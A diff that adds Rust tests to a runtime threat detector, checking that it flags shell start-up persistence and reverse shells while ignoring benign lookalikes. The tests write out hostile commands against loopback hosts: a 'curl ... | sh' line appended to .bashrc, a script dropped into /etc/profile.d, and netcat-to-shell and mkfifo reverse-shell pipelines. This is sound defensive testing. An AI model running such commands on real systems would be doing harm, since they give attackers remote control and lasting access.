@@ -1240,3 +1240,158 @@ fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
         kinds(&found)
     );
 }
+
+/// Runs `script` as a script file (`sh FILE`), so that no argv holds what it does: the way a
+/// third-party test or a dropped script runs it.
+fn sh_file(dir: &Scratch, name: &str, script: &str) -> u32 {
+    let file = dir.path(name);
+    std::fs::write(&file, script).expect("script");
+    run(Command::new("/bin/sh").arg(&file))
+}
+
+#[test]
+fn shell_start_up_files_written_as_persistence() {
+    if !privileged("shell_start_up_files_written_as_persistence") {
+        return;
+    }
+    let n = nonce();
+    let mut clean = Cleanup::default();
+    let scratch = Scratch::new("startup");
+    // A home of its own: start-up files are matched by name in any directory.
+    let home = scratch.0.join("home");
+    std::fs::create_dir_all(&home).expect("home");
+    let bashrc = home.join(".bashrc").display().to_string();
+    let profile = home.join(".profile").display().to_string();
+    std::fs::write(&bashrc, "# vigil test\n").expect(".bashrc");
+    let profile_d = clean.file(format!("/etc/profile.d/vigil-{n}.sh"));
+    for (what, script, path) in [
+        (
+            "a line appended to .bashrc",
+            format!("echo 'curl -s http://127.0.0.1:1/x | sh' >> {bashrc}\n"),
+            &bashrc,
+        ),
+        (
+            "a .profile written",
+            format!("printf 'true\\n' > {profile}\n"),
+            &profile,
+        ),
+        (
+            "a script dropped into /etc/profile.d",
+            format!("echo true > {profile_d}\n"),
+            &profile_d,
+        ),
+    ] {
+        let pid = sh_file(&scratch, "persist.sh", &script);
+        let found = detect(pid);
+        let f = of(&found, "behaviour-persistence-shell-startup");
+        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
+        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
+        assert_eq!(f[0].context.file_path.as_deref(), Some(path.as_str()));
+        assert_eq!(
+            f[0].context
+                .additional
+                .get("persistenceKind")
+                .map(String::as_str),
+            Some("shell")
+        );
+    }
+    // Benign: reading them, and a file whose name only ends like one.
+    let pid = sh_file(
+        &scratch,
+        "read.sh",
+        &format!("cat {bashrc} {profile} {profile_d} >/dev/null\n"),
+    );
+    assert!(detect(pid).is_empty(), "reads");
+    let lookalike = home.join("notes.bashrc").display().to_string();
+    let pid = sh_file(&scratch, "other.sh", &format!("echo x > {lookalike}\n"));
+    assert!(
+        of(&detect(pid), "behaviour-persistence-shell-startup").is_empty(),
+        "notes.bashrc"
+    );
+}
+
+/// A loopback listener that sends `text` to each connection and closes it; its port.
+fn serve_text(text: &'static [u8]) -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
+    let port = listener.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { continue };
+            std::thread::spawn(move || {
+                let _ = conn.write_all(text);
+                std::thread::sleep(Duration::from_millis(300));
+            });
+        }
+    });
+    port
+}
+
+#[test]
+fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
+    if !privileged("a_shell_fed_by_a_network_relay_is_a_reverse_shell") {
+        return;
+    }
+    if !Path::new("/usr/bin/nc.openbsd").exists() {
+        eprintln!("skipped: netcat-openbsd is not installed (scripts/bootstrap.sh installs it)");
+        assert!(std::env::var_os("CI").is_none(), "nc missing under CI");
+        return;
+    }
+    let port = serve_text(b"true\n");
+    let scratch = Scratch::new("relay");
+    let fifo = scratch.path("f");
+    // The forms of the cheat sheets, as lines of a script: no argv holds the pipe.
+    for (what, script) in [
+        ("nc host port | sh", format!("nc 127.0.0.1 {port} | sh\n")),
+        (
+            "nc host port | cat | bash",
+            format!("nc 127.0.0.1 {port} | cat | bash\n"),
+        ),
+        (
+            "mkfifo f; sh -i < f | nc host port > f",
+            format!(
+                "rm -f {fifo}; mkfifo {fifo}\nsh -i < {fifo} 2>&1 | nc 127.0.0.1 {port} > {fifo}\n"
+            ),
+        ),
+    ] {
+        let pid = sh_file(&scratch, "relay.sh", &script);
+        let found = detect(pid);
+        let f = of(&found, "behaviour-reverse-shell-pipe");
+        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell");
+        assert_eq!(f[0].severity_label, SeverityLabel::High);
+        let writer = f[0]
+            .context
+            .additional
+            .get("pipeWriter")
+            .cloned()
+            .unwrap_or_default();
+        assert!(writer.ends_with("/nc.openbsd"), "{what}: {writer}");
+    }
+    // Benign: what nc receives read as data, and a shell's output sent with nc.
+    for (what, script) in [
+        (
+            "nc host port | cat",
+            format!("nc 127.0.0.1 {port} | cat >/dev/null\n"),
+        ),
+        (
+            "sh -c 'echo hi' | nc host port",
+            format!("sh -c 'echo hi' | nc 127.0.0.1 {port} >/dev/null\n"),
+        ),
+        (
+            "nc host port | sh -c 'cat > file'",
+            format!(
+                "nc 127.0.0.1 {port} | sh -c 'cat > {}'\n",
+                scratch.path("received")
+            ),
+        ),
+    ] {
+        let pid = sh_file(&scratch, "benign.sh", &script);
+        let found = detect(pid);
+        assert!(
+            of(&found, "behaviour-reverse-shell-pipe").is_empty(),
+            "{what}: {:?}",
+            kinds(&found)
+        );
+    }
+}
